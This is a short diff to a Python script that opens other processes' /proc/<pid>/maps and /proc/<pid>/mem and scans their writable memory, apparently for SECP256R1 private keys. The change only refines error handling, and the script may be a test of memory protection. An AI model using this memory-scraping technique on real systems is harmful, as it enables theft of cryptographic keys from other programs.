@@ -47,9 +47,11 @@ while not select.select([0], [], [], 0.002)[0]:
                 continue  # the memory that was opened is still the one that it has
             maps = os.open(f"/proc/{pid}/maps", os.O_RDONLY)
             memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
-        except OSError:
+        except PermissionError:
             print("refused", flush=True) if not refused else None
             refused = True
+            continue
+        except OSError:  # it has ended
             continue
         print("opened", flush=True) if not kept else None
         kept.append((maps, memory))
@@ -60,7 +62,10 @@ from cryptography.hazmat.primitives.asymmetric import ec
 CURVE, HEAD = ec.SECP256R1(), (49).to_bytes(8, "little")
 found, read = set(), 0
 for maps, memory in kept:
-    lines = b"".join(iter(lambda: os.read(maps, 65536), b"")).decode().splitlines()
+    try:
+        lines = b"".join(iter(lambda: os.read(maps, 65536), b"")).decode().splitlines()
+    except ProcessLookupError:  # it has ended
+        continue
     for area, access in (line.split()[:2] for line in lines):
         if not access.startswith("rw"):
             continue
